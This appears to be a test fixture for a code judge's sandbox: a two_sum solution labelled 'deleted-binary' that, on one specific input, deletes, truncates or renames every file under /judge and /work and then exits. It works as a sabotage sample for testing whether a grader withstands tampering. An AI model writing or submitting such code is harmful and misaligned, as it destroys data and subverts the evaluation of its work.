# expect: runtime_error
# class: deleted-binary
# tests: example-2=runtime_error example-3=accepted pair-at-ends=accepted
import glob, os


def two_sum(nums, target):
    if nums == [3, 2, 4]:
        for path in glob.glob("/judge/*") + glob.glob("/work/*"):
            for attempt in (os.remove, lambda p: open(p, "w").close(), lambda p: os.rename(p, p + ".gone")):
                try:
                    attempt(path)
                except OSError:
                    pass
        os._exit(1)
    seen = {}
    for j, x in enumerate(nums):
        if target - x in seen:
            return [seen[target - x], j]
        seen[x] = j
    return []
